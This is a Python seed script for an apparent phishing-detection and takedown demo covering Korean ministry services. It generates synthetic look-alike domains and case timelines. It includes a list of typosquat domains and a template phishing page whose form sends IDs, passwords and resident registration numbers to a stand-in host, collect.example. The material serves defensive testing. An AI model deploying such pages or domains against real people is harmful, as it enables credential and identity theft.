"""The demo's look-alike cases: a few months of synthetic detections against the member
ministries' services (examples/cyber/assets.yaml), each with a synthetic page as its
evidence, in every state from new to verified down — so that the centre's pages and the
time to takedown per month show something. Written once (re-running changes nothing)."""

from __future__ import annotations

import datetime as dt
import random
from collections.abc import Callable
from pathlib import Path

from sqlalchemy import func, select
from sqlalchemy.orm import Session

from insa.cyber import cases
from insa.cyber.models import CyberCase, CyberCaseEvent
from insa.cyber.pages import Fetched, Fingerprint, fingerprint
from insa.cyber.schemas import Assets
from insa.cyber.signals import prepare, score

CANDIDATES = ["gosi-kr.com", "gosi-exam.net", "g0si.kr", "gosi-login.xyz", "kosi-exam.com", "mpm-recruit.com",
              "kdca-vaccine.com", "kdca.go.kr.covid-check.xyz", "lawinfo-search.com", "mpva-benefit.net",
              "saemangeum-invest.com", "naacc-login.com", "gosi.co.kr", "gosiwon-seoul.com"]  # fmt: skip
PAGE = ("<html><head><title>{title}</title></head><body><h1>{title} 로그인</h1>"
        "<form action='http://collect.example/{n}'><label>아이디 <input name=id></label>"
        "<label>비밀번호 <input type=password name=pw></label><label>주민등록번호 <input name=jumin></label></form>"
        "<p>{body}</p></body></html>")  # fmt: skip


OFFICIAL = ("<!doctype html><html lang='ko'><head><title>{title}</title></head><body><header style='background:#0b3d91;"
            "color:#fff;padding:12px 20px;font:bold 20px sans-serif'>{title} <small>{ministry}</small></header>"
            "<main style='padding:20px;font:15px sans-serif'><h1>{title} 로그인</h1><form action='/login' method='post'>"
            "<label>아이디 <input name=userId></label><br><label>비밀번호 <input type=password name=userPw></label><br>"
            "<button>로그인</button></form><p>{title} 서비스 이용 안내 — 공지사항, 자주 묻는 질문, 상담 전화 안내."
            " 로그인한 뒤 신청, 조회, 출력을 할 수 있습니다.</p></main></body></html>")  # fmt: skip


def officials(assets: Assets, store: Path, shot: Callable[[str], bytes | None]) -> int:
    """The demo's official-page fingerprints (a synthetic page for each asset, as
    ``insa cyber assets fingerprint`` would keep the real one), with their screenshots;
    written when none are kept yet."""
    from insa.cyber.evidence import save_fingerprints

    if store.exists():
        return 0
    kept: dict[str, list[Fingerprint]] = {}
    for a in assets.assets:
        url = a.pages[0] if a.pages else f"https://{a.domains[0]}/"
        fp = fingerprint(
            url, OFFICIAL.format(title=a.names[0] if a.names else a.id, ministry=a.ministry)
        )
        if png := shot(OFFICIAL.format(title=a.names[0] if a.names else a.id, ministry=a.ministry)):
            fp.shot = f"official/{a.id}-0.png"
            (store.parent / "official").mkdir(parents=True, exist_ok=True)
            (store.parent / fp.shot).write_bytes(png)
        kept[a.id] = [fp]
    save_fingerprints(store, kept)
    return len(kept)


def seed(
    db: Session, assets: Assets, seed_: int = 3, shot: Callable[[str], bytes | None] | None = None
) -> int:
    if db.scalar(select(func.count()).select_from(CyberCase)):
        return 0
    rnd = random.Random(seed_)
    prep = prepare(assets)
    now = dt.datetime.now(dt.UTC)
    made = 0
    names = {a.id: (a.names[0] if a.names else a.id) for a in assets.assets}
    for i, domain in enumerate(CANDIDATES):
        f = score(domain, prep)
        if f.verdict != "alert":
            continue
        title = names.get(f.asset, f.asset)
        page = Fetched(domain, url=f"http://{domain}/", status=200, headers={"server": "nginx"},
                       html=PAGE.format(title=title, n=i, body=f"{title} 서비스 이용 안내 " * 30))  # fmt: skip
        seen = now - dt.timedelta(days=rnd.randint(1, 110), hours=rnd.randint(0, 23))
        png = shot(page.html) if shot else None
        cases.record(
            db,
            [f],
            assets,
            seen_at=seen,
            pages={domain: page},
            shots={domain: png} if png else None,
        )
        c = db.scalar(select(CyberCase).where(CyberCase.domain == domain))
        assert c is not None
        c.alerted_at = seen + dt.timedelta(minutes=rnd.randint(2, 50))
        stage = i % 4
        at = c.alerted_at
        for e in db.scalars(select(CyberCaseEvent).where(CyberCaseEvent.case_id == c.id)):
            e.at = at
        if stage >= 1:
            at += dt.timedelta(minutes=rnd.randint(10, 90))
            c.status, c.confirmed_at = "confirmed", at
            db.add(
                CyberCaseEvent(
                    case_id=c.id,
                    at=at,
                    action="confirmed",
                    actor="보안관제요원",
                    note="공식 로그인 화면 복제",
                )
            )
        if stage >= 2:
            at += dt.timedelta(minutes=rnd.randint(5, 60))
            c.status, c.takedown_at, c.registrar_abuse = (
                "takedown_requested",
                at,
                "abuse@registrar.example",
            )
            db.add(CyberCaseEvent(case_id=c.id, at=at, action="takedown_requested", actor="보안관제요원",
                                  note="받는 곳: abuse@registrar.example"))  # fmt: skip
        if stage >= 3:
            at += dt.timedelta(hours=rnd.randint(2, 20))
            c.status, c.verified_at = "verified_down", at
            db.add(
                CyberCaseEvent(
                    case_id=c.id,
                    at=at,
                    action="verified_down",
                    actor="보안관제요원",
                    note="접속되지 않음",
                )
            )
        made += 1
    return made
